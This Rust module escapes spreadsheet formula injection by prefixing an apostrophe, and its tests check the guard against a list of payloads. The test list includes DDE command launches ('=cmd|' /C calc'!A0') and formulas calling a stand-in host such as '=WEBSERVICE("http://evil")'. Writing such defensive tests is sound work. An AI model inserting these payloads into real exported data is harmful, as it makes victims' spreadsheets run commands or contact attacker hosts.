//! Formulas never reach a spreadsheet live. A text that a spreadsheet might run gets an apostrophe in
//! front, as OWASP advises; no other text is changed, so nothing is lost: one apostrophe comes off again.

/// The text as it may stand in a cell.
pub(super) fn guarded(text: &str) -> String {
    if is_live(text) { format!("'{text}") } else { text.to_owned() }
}

/// Whether some spreadsheet might take the text for a formula. Programs skip white space, invisible
/// characters and quotes before they look, and take full-width signs for the plain ones.
pub(super) fn is_live(text: &str) -> bool {
    // A tab or line break in front can move the rest into a cell of its own. Apostrophes do not
    // count, so that taking the guard's own one off is never ambiguous.
    text.trim_start_matches('\'').starts_with(['\t', '\r', '\n'])
        || text.chars().find(|c| !is_skipped(*c)).is_some_and(starts_formula)
}

const fn starts_formula(c: char) -> bool {
    matches!(
        c,
        '=' | '+'
            | '-'
            | '@'
            | '|'
            | '%'
            | '＝'
            | '＋'
            | '－'
            | '＠'
            | '﹦'
            | '﹢'
            | '﹣'
            | '﹫'
            | '\u{2212}'
    )
}

fn is_skipped(c: char) -> bool {
    let quote = matches!(
        c,
        '"' | '\'' | '`' | '\u{b4}' | '\u{2018}'
            ..='\u{201f}' | '\u{ab}' | '\u{bb}' | '\u{ff02}' | '\u{ff07}'
    );
    quote || c.is_whitespace() || crate::engine::is_unprintable(c)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payloads_get_an_apostrophe() {
        for payload in [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil\",\"x\")",
            "=WEBSERVICE(\"http://evil\")",
            "=IMPORTXML(\"http://evil\",\"//a\")",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "+1+1",
            "+49 170 1234567",
            "-1+1",
            "-2+3+cmd|' /C calc'!A0",
            "-",
            "- list item",
            "@SUM(1+1)",
            "@A1",
            "\t=1+1",
            "\tplain after a tab",
            "\r=1+1",
            "\n=1+1",
            "'\r",
            " =1+1",
            "   +1",
            "\u{a0}=1+1",
            "\u{3000}=1+1",
            "\u{feff}=1+1",
            "\u{200b}=1+1",
            "\"=1+1",
            "\"\"=1+1\"\"",
            "'=1+1",
            "''=1+1",
            " ' = 1",
            "“=1+1",
            "‘-1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            " ＝1+1",
            "−1+1",
            "%0A=1",
            "|calc",
        ] {
            assert!(is_live(payload), "{payload:?}");
            assert_eq!(guarded(payload), format!("'{payload}"));
        }
    }

    #[test]
    fn everything_else_stays_as_it_is() {
        for text in [
            "",
            "plain words",
            "'quoted' words",
            "INC0012345",
            "17@w4f2",
            "a=1",
            "1+1",
            "1-2",
            "2026-01-22T14:05:00-05:00",
            "done: I-01 notify-leadership — note -3",
            "tel:+49-170-1234567",
            "(-1)",
            "ü",
            "é=1",
        ] {
            assert!(!is_live(text), "{text:?}");
            assert_eq!(guarded(text), text);
        }
    }
}
